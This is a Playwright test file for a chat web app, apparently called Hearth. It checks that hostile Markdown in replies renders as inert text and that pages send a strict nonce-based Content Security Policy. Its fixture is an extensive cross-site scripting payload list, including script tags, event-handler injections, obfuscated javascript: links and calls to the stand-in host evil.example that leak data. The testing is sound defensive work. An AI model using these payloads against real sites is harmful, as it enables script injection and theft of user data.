import { ask, replies } from "./support/chat";
import { expect, test } from "./support/journey";

/** Ways to run a script or to call home that have worked on chat pages. `window.hacked` and the host `evil.example` tell. */
const hostileReply = `Before.

<script>window.hacked = "script"; alert(1)</script>

<img src=x onerror="window.hacked = 'onerror'">

<svg onload="window.hacked = 'svg'"><script>window.hacked = "svg script"</script></svg>

<iframe srcdoc="<script>parent.hacked = 'iframe'</script>"></iframe> <iframe src="https://evil.example/frame"></iframe>

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 'mutation'"></style></mglyph></table></mtext></math>

<style>@import "https://evil.example/style.css"; body { background: url(https://evil.example/background.png) }</style>

<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

<form action="https://evil.example/form"><button>Send</button></form> <details open ontoggle="window.hacked = 'toggle'">x</details>

![remote](https://evil.example/pixel.png?stolen=secret) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

[script](javascript:window.hacked='link') [spaced](java&#x09;script:window.hacked='spaced') [upper](JaVaScRiPt:window.hacked='upper') [entity](&#106;avascript:window.hacked='entity')

[data](data:text/html,<script>window.opener.hacked='data'</script>) [vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)

[broken](https://example.org/"onmouseover="window.hacked='attribute') <javascript:window.hacked='auto'> [reference]

[reference]: javascript:window.hacked='reference'

| table |
| --- |
| <img src=x onerror="window.hacked = 'cell'"> |

$\\href{javascript:window.hacked='math'}{x}$ $\\includegraphics{https://evil.example/math.png}$ $\\htmlData{x=1}{y}$

\`\`\`html"><img src=x onerror="window.hacked='language'">
<img src=x onerror="window.hacked = 'code'">
\`\`\`

After.
`;

test("a reply full of hostile Markdown runs nothing, asks nothing of anyone, and shows as text", async ({ page, newcomer }) => {
  await newcomer({ reply: hostileReply, reasoning: hostileReply, intervalMs: 2 });
  await ask(page, "<img src=x onerror=\"window.hacked = 'message'\"> Attack me");
  const reply = replies(page);
  await reply.getByText("Thought", { exact: true }).click();
  await expect(reply.getByText("After.")).toHaveCount(2);
  await expect(reply).toContainText('<script>window.hacked = "script"; alert(1)</script>');
  await expect(reply.getByRole("img", { name: /remote|data/ })).toHaveCount(0);
  await expect(reply.getByRole("math").first()).toBeAttached();

  for (const isReloaded of [false, true]) {
    if (isReloaded) {
      await page.reload();
      await expect(reply.getByText("After.")).toBeVisible();
    }
    for (const name of ["script", "spaced", "upper", "entity", "data", "vb", "file", "blob", "reference"])
      await expect(reply.getByRole("link", { name, exact: true })).toHaveCount(0);
    const inserted = await reply.evaluate((element) => ({
      elements: [...element.querySelectorAll("script, iframe, object, embed, style, link, meta, base, form, img")].map(
        (one) => one.outerHTML,
      ),
      handlers: [...element.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
      addresses: [...element.querySelectorAll("[href]")]
        .map((one) => one.getAttribute("href"))
        // The way to the reply's trace is Hearth's own.
        .filter((href) => !/^https?:|^mailto:|^\/monitoring\/traces\/reply\/[\da-f-]{36}$/.test(href ?? "")),
    }));
    expect(inserted).toEqual({ elements: [], handlers: [], addresses: [] });
    const links = reply.getByRole("link").and(page.locator(":not([aria-label=Trace])"));
    for (const link of await links.all()) await expect(link).toHaveAttribute("rel", "noopener noreferrer");
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  }
});

test("pages come with a policy that lets no inline script run without the request's nonce", async ({ page, hearth, expectInConsole }) => {
  expectInConsole(/Content Security Policy/);
  const { url } = await hearth();
  const answer = await page.goto(`${url}/welcome`);
  const policy = answer?.headers()["content-security-policy"] ?? "";
  const scripts = policy.split(";").find((directive) => directive.trim().startsWith("script-src")) ?? "";
  expect(scripts).toMatch(/'nonce-[^']+'/);
  expect(scripts).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:|data:/);
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
  const again = await page.request.get(`${url}/welcome`);
  expect(again.headers()["content-security-policy"]).not.toBe(policy);

  await page.evaluate(() => {
    const script = document.createElement("div");
    script.innerHTML = `<img src="/icon.svg" onload="window.hacked = true">`;
    document.body.append(script);
  });
  await expect(page.getByRole("img").last()).toHaveJSProperty("complete", true);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});
